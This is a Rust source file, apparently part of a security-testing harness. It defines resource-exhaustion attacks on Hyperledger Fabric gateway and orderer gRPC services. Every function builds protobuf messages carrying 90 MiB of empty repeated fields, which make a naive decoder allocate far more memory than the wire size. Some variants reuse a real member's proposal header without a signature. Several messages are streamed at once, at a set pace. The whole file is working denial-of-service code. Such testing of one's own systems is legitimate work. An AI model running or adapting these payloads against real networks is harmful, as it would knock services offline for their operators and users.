//! Messages full of empty repeated fields. Each field takes two bytes on the wire, and a naive decoder allocates dozens
//! of bytes for it.

use std::io;
use std::sync::Arc;

use bytes::Bytes;

use super::{Attack, AttackContext, Breach, attack, unless_stalled};
use crate::target::TargetKind;
use crate::wire::fabric::invocation;
use crate::wire::grpc::{FlowControlWindows, head};
use crate::wire::protobuf::ProtobufMessage;

const MIB: usize = 1 << 20;
/// Bytes of repeated fields in a message; the largest that ports take is 100 MiB.
const BYTES: usize = 90 * MIB;

pub fn attacks() -> Vec<Attack> {
    const GATEWAY: &[TargetKind] = &[TargetKind::Gateway];
    vec![
        attack!("many-organizations", "90 MiB of empty names", GATEWAY, 90.0 "MiB", organizations),
        attack!("many-arguments", "90 MiB of empty arguments", GATEWAY, 90.0 "MiB", arguments),
        attack!("many-decorations", "90 MiB of empty decorations", GATEWAY, 90.0 "MiB", decorations),
        attack!("many-transients", "90 MiB of empty transient data", GATEWAY, 90.0 "MiB", transients),
        attack!("many-endorsements", "90 MiB of empty endorsements", GATEWAY, 90.0 "MiB", endorsements),
        attack!("many-actions", "90 MiB of empty actions", GATEWAY, 90.0 "MiB", actions),
        attack!("many-seeks", "90 MiB of empty positions", &[TargetKind::Gateway, TargetKind::Orderer], 90.0 "MiB", seeks),
        attack!("many-groups", "90 MiB of empty groups of a configuration", &[TargetKind::Orderer], 90.0 "MiB", groups),
    ]
}

/// A message: the bytes before the repeated field, and the field.
struct PayloadShape {
    path: &'static str,
    before: Vec<u8>,
    field: u8,
}

/// The heads of nested messages, each with the bytes that precede it in the outer message; the innermost message consists
/// of `innermost` and then the repeated fields.
fn nested(layers: &[(Vec<u8>, u32)], innermost: Vec<u8>) -> Vec<u8> {
    let mut bytes = innermost;
    for (before, field) in layers.iter().rev() {
        let head = ProtobufMessage::new().head(*field, (bytes.len() + BYTES) as u64).done();
        bytes = [before.clone(), head, bytes].concat();
    }
    bytes
}

async fn organizations(scene: Arc<AttackContext>) -> io::Result<Breach> {
    let before = ProtobufMessage::new().bytes(1, "tx").bytes(2, scene.target.channel()).done();
    send(scene, PayloadShape { path: "/gateway.Gateway/Evaluate", before, field: 4 << 3 | 2 }).await
}

/// A proposal with the header of a real member, but no signature, and these fields repeated in its input.
async fn input(scene: Arc<AttackContext>, field: u8) -> io::Result<Breach> {
    let header = scene.target.user(scene.insider())?.proposal_header(scene.target.channel(), "basic");
    let request = ProtobufMessage::new().bytes(1, &header.1).bytes(2, scene.target.channel()).done();
    // Checks that contracts are called in this form.
    let spec = invocation("basic", &[]);
    let spec = spec[2..spec.len() - 2].to_vec();
    let before = nested(
        &[
            (request, 3),
            (Vec::new(), 1),
            (ProtobufMessage::new().bytes(1, &header.0).done(), 2),
            (Vec::new(), 1),
            (Vec::new(), 1),
            (spec, 3),
        ],
        Vec::new(),
    );
    send(scene, PayloadShape { path: "/gateway.Gateway/Evaluate", before, field: field << 3 | 2 }).await
}

async fn arguments(scene: Arc<AttackContext>) -> io::Result<Breach> {
    input(scene, 1).await
}

async fn decorations(scene: Arc<AttackContext>) -> io::Result<Breach> {
    input(scene, 2).await
}

async fn transients(scene: Arc<AttackContext>) -> io::Result<Breach> {
    let header = scene.target.user(scene.insider())?.proposal_header(scene.target.channel(), "basic");
    let request = ProtobufMessage::new().bytes(1, &header.1).bytes(2, scene.target.channel()).done();
    let input = ProtobufMessage::new().bytes(1, invocation("basic", &[])).done();
    let proposal = ProtobufMessage::new().bytes(1, &header.0).done();
    let before = nested(&[(request, 3), (Vec::new(), 1), (proposal, 2)], input);
    send(scene, PayloadShape { path: "/gateway.Gateway/Evaluate", before, field: 2 << 3 | 2 }).await
}

/// A transaction whose action contains only endorsements.
async fn endorsements(scene: Arc<AttackContext>) -> io::Result<Breach> {
    // The action, its payload, and the endorsed action.
    submit(scene, &[(Vec::new(), 1), (Vec::new(), 2), (Vec::new(), 2)], 2).await
}

async fn actions(scene: Arc<AttackContext>) -> io::Result<Breach> {
    submit(scene, &[], 1).await
}

/// An envelope of an endorsed transaction; `layers` are within its data.
async fn submit(scene: Arc<AttackContext>, layers: &[(Vec<u8>, u32)], field: u8) -> io::Result<Breach> {
    let header = scene.target.user(scene.insider())?.proposal_header(scene.target.channel(), "basic");
    let request = ProtobufMessage::new().bytes(1, &header.1).bytes(2, scene.target.channel()).done();
    let payload = ProtobufMessage::new().bytes(1, &header.0).done();
    let outer = [(request, 3), (Vec::new(), 1), (payload, 2)];
    let before = nested(&[&outer[..], layers].concat(), Vec::new());
    send(scene, PayloadShape { path: "/gateway.Gateway/Submit", before, field: field << 3 | 2 }).await
}

async fn seeks(scene: Arc<AttackContext>) -> io::Result<Breach> {
    let path = match scene.port.kind {
        TargetKind::Orderer => "/orderer.AtomicBroadcast/Deliver",
        _ => "/protos.Deliver/Deliver",
    };
    let before = nested(&[(Vec::new(), 1), (Vec::new(), 2)], Vec::new());
    send(scene, PayloadShape { path, before, field: 1 << 3 | 2 }).await
}

/// An update of the configuration, whose groups are a map.
async fn groups(scene: Arc<AttackContext>) -> io::Result<Breach> {
    let channel_header = ProtobufMessage::new().number(1, 2).bytes(4, scene.target.channel());
    let header = ProtobufMessage::new().bytes(1, ProtobufMessage::new().bytes(1, channel_header)).done();
    let before = nested(&[(Vec::new(), 1), (header, 2), (Vec::new(), 1), (Vec::new(), 3)], Vec::new());
    let path = "/orderer.AtomicBroadcast/Broadcast";
    send(scene, PayloadShape { path, before, field: 2 << 3 | 2 }).await
}

/// Messages that are sent concurrently.
const MESSAGES: usize = 4;

/// Sends such messages at the pace, a few concurrently.
async fn send(scene: Arc<AttackContext>, shape: PayloadShape) -> io::Result<Breach> {
    let shape = Arc::new(shape);
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..MESSAGES {
        let (scene, shape) = (Arc::clone(&scene), Arc::clone(&shape));
        // If a message is refused before its end, the next one follows, at the pace.
        tasks.spawn(async move {
            while !matches!(send_one(&scene, &shape).await, Ok(false)) && scene.pace.take(1.0).await {}
        });
    }
    tasks.join_all().await;
    Ok(None)
}

/// False once the time is over.
async fn send_one(scene: &AttackContext, shape: &PayloadShape) -> io::Result<bool> {
    let chunk = Bytes::from([shape.field, 0].repeat(MIB / 2));
    let length = shape.before.len() + BYTES;
    let channel = scene.grpc(FlowControlWindows::default()).await?;
    scene.pace.connected();
    let mut stream = channel.open(shape.path, &[]).await?;
    unless_stalled(stream.send(Bytes::copy_from_slice(&head(length as u64)))).await?;
    unless_stalled(stream.send(Bytes::copy_from_slice(&shape.before))).await?;
    for _ in 0..BYTES / MIB {
        if !scene.pace.take(1.0).await {
            return Ok(false);
        }
        unless_stalled(stream.send(chunk.clone())).await?;
        scene.pace.sent(MIB);
    }
    stream.requests.send_data(Bytes::new(), true).map_err(io::Error::other)?;
    // The answer does not matter, but the server has to work for it.
    drop(unless_stalled(async { stream.response.await.map_err(io::Error::other) }).await);
    Ok(true)
}
